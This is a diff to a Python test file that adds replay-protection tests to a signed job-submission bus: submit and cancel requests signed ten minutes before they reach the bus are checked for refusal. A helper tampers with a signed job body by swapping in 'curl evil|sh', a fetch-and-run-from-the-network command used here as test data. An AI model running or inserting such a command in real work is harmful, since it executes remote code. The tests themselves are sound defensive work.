@@ -10,6 +10,8 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import datetime as dt
+import re
 import time
 import uuid
 from collections.abc import AsyncIterator
@@ -24,7 +26,14 @@ from taugrid.bus import Bus, connect, identity, platformstore, runstate
 from taugrid.bus.envelope import SIGNER_HEADER, Event, headers_for, sign_headers
 from taugrid.bus.service import Service
 from taugrid.client import CancelRefused, Client
-from taugrid.core.contracts import PolicyApproved, RecoveryRetrying, Rejected, SubmitRequested
+from taugrid.core.contracts import (
+    CancelDecision,
+    CancelRequested,
+    PolicyApproved,
+    RecoveryRetrying,
+    Rejected,
+    SubmitRequested,
+)
 from taugrid.core.events import message_id, run_subject
 from taugrid.evidence import store
 from taugrid.evidence.bundle import bundle_name
@@ -216,14 +225,17 @@ async def test_tau_verify_flags_a_tampered_sealed_signature(stack: Stack) -> Non
             "does not match the request (tampered, or signed by another key)") in report.problems
 
 
-async def forge_submission(stack: Stack, *, seed: bytes, tamper: bool) -> str:
-    """A submit.requested signed by ``seed``; with ``tamper`` its body is changed after signing."""
+async def forge_submission(stack: Stack, *, seed: bytes, tamper: bool, signed_at: str = "") -> str:
+    """A submit.requested signed by ``seed``; with ``tamper`` its body is changed after signing; ``signed_at``
+    replaces its ``ce-time`` before signing (an old request replayed)."""
     run_id = f"forged-{uuid.uuid4().hex[:6]}"
     subject = run_subject("team-a", run_id, "submit.requested")
     body = msgspec.json.encode(SubmitRequested(submission_id=uuid.uuid4().hex, workspace="team-a",
                                                config_text=tau_yaml("forged", "echo signed")))
     headers = headers_for(event_id=message_id(run_id, 1, "submit.requested"), event_type="submit.requested",
                           source="/svc/client", subject=run_id, workspace="team-a", attempt=1, traceparent="")
+    if signed_at:
+        headers["ce-time"] = signed_at
     sign_headers(seed, nats_subject=subject, headers=headers, body=body)
     if tamper:
         body = body.replace(b"echo signed", b"curl evil|sh")
@@ -239,6 +251,48 @@ async def test_a_tampered_signature_is_rejected(stack: Stack) -> None:
         "tau-signature",
         "submit.requested refused: signature does not match the request (tampered, or signed by another key)")
     assert "submit.accepted" not in [e.type for e in evs]
+
+
+def _minutes_ago(minutes: int) -> str:
+    return (dt.datetime.now(dt.UTC) - dt.timedelta(minutes=minutes)).isoformat(timespec="milliseconds").replace(
+        "+00:00", "Z")
+
+
+def _stale(event_type: str, signed_at: str) -> re.Pattern[str]:
+    """The refusal of a request signed ten minutes before it was stored (the seconds vary by a little)."""
+    return re.compile(re.escape(f"{event_type} refused: signed at {signed_at!r}, but stored ") + r"60\d" + re.escape(
+        " s apart from that; a signed request must reach the bus within 300 s of signing (a replay of an old "
+        "request is never honoured)"))
+
+
+async def test_a_submission_signed_long_before_it_reached_the_bus_is_refused(stack: Stack) -> None:
+    signed_at = _minutes_ago(10)
+    run_id = await forge_submission(stack, seed=stack.seeds["alice"], tamper=False, signed_at=signed_at)
+    evs = await stack.wait_for(run_id, {"submit.rejected"})
+    [issue] = next(e for e in evs if e.type == "submit.rejected").payload(Rejected).reasons
+    assert issue.field == "ce-time" and _stale("submit.requested", signed_at).fullmatch(issue.message)
+    assert "submit.accepted" not in [e.type for e in evs]
+
+
+async def test_a_replayed_old_cancel_is_refused_and_the_run_keeps_running(stack: Stack) -> None:
+    run_id = await stack.submit("alice", "replayed", "sleep 60")
+    await stack.wait_for(run_id, {"exec.running"})
+    signed_at, nonce = _minutes_ago(10), uuid.uuid4().hex[:12]
+    subject = run_subject("team-a", run_id, "cancel.requested")
+    body = msgspec.json.encode(CancelRequested(reason="replayed", requested_by="alice"))
+    request_id = message_id(run_id, 1, "cancel.requested", suffix=nonce)
+    headers = headers_for(event_id=request_id, event_type="cancel.requested", source="/svc/client", subject=run_id,
+                          workspace="team-a", attempt=1, traceparent="")
+    headers["ce-time"] = signed_at
+    sign_headers(stack.seeds["alice"], nats_subject=subject, headers=headers, body=body)
+    await stack.bus.js.publish(subject, body, headers=headers)
+    evs = await stack.wait_for(run_id, {"cancel.refused"})
+    decision = next(e for e in evs if e.type == "cancel.refused").payload(CancelDecision)
+    assert decision.request_id == request_id and decision.field == "ce-time"
+    assert _stale("cancel.requested", signed_at).fullmatch(decision.reason)
+    assert (await stack.people["alice"].status(run_id)).state == "running"
+    await stack.people["alice"].cancel(run_id)
+    await stack.wait_for(run_id, {"exec.cancelled"})
 
 
 async def test_a_signer_who_is_not_a_platform_user_is_rejected(stack: Stack) -> None:
